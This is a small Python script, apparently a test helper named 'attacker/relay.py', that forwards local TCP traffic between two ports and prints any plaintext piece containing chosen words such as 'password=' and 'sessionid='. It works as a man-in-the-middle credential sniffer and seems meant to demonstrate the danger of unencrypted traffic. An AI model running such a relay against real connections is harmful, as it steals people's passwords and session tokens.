"""
Read along, as whoever carries the bytes can: a Wi-Fi, a router, a provider.

    python3 tests/attacker/relay.py 8001 8000 password= sessionid=

takes connections at port 8001 of this machine, and passes everything on to port 8000
and back. It prints each readable piece that holds one of the words.
"""

import re
import socket
import sys
from contextlib import suppress
from threading import Thread

READABLE = re.compile(rb"[ -~]{6,}")  # ASCII, from the space to the tilde.


def pass_on(source: socket.socket, target: socket.socket, words: list[str]) -> None:
    """Read what comes from one side until it hangs up, and give it to the other."""
    with suppress(OSError):
        while data := source.recv(65536):
            for piece in READABLE.findall(data):
                if any(word in piece.decode() for word in words):
                    print(piece.decode(), flush=True)
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)


def main() -> None:
    """Carry connections until somebody presses Ctrl-C."""
    here, there, *words = sys.argv[1:]
    with socket.create_server(("127.0.0.1", int(here))) as listener:
        print(f"From port {here} to port {there}, looking for {words}", flush=True)
        while True:
            client, _address = listener.accept()
            server = socket.create_connection(("127.0.0.1", int(there)))
            for ends in ((client, server), (server, client)):
                Thread(target=pass_on, args=(*ends, words), daemon=True).start()


if __name__ == "__main__":
    with suppress(KeyboardInterrupt):
        main()
